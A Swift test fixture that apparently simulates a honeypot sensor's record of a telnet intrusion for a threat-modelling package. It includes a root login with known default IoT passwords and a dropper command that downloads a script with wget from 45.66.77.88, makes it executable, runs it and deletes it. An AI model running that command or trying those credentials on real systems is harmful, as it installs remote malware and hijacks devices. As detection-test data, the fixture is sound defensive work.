import ThreatModel

/// A visit as a sensor sends it: a login, commands, a download, in lines of JSON.
struct RecordedVisit {
    /// Events of one visit.
    static let eventCount = 10

    private static let commands = [
        "uname -a", "cat /proc/cpuinfo", "ps", "cd /tmp", "ls -la",
        "cd /tmp; wget http://45.66.77.88/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
    ]

    /// - Parameters:
    ///   - address: the visitor's.
    ///   - now: when it ends.
    static func lines(from address: String, at now: Timestamp) -> [UInt8] {
        let session = UUIDv7(at: now)
        var lines = ""
        func event(_ seq: Int, _ kind: String, _ fields: String) {
            let at = now.milliseconds - Int64(eventCount - seq)
            lines += """
                {"id":"\(UUIDv7(at: now))","session":"\(session)","seq":\(seq),"at":\(at),"protocol":"telnet",\
                "transport":"tcp","dstPort":23,"src":"\(address)","srcPort":40001,"kind":"\(kind)","fields":{\(fields)}}

                """
        }
        event(0, "connect", "")
        event(1, "auth", #""method":"password","username":"root","password":"vizxv","success":"false""#)
        event(2, "auth", #""method":"password","username":"root","password":"xc3511","success":"true""#)
        for (number, command) in commands.enumerated() { event(3 + number, "command", #""command":"\#(command)""#) }
        event(9, "close", #""duration_ms":"4100","reason":"client""#)
        return Array(lines.utf8)
    }
}
